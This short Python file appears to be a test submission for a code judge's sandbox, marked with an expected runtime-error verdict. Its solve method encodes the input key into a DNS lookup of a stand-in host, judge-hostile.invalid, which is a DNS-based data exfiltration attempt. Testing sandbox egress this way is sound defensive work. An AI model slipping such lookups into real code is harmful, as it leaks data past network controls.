# tries: to tell the world by the names that it looks up
# verdict: RE
# within: 1.5
import socket


class Solution:
    def solve(self, nums, key):
        found = socket.getaddrinfo(f"{key}.judge-hostile.invalid", 80, proto=socket.IPPROTO_TCP)
        for family, _, _, _, address in found:
            print("HOLE: looked up", family, address)
        return found
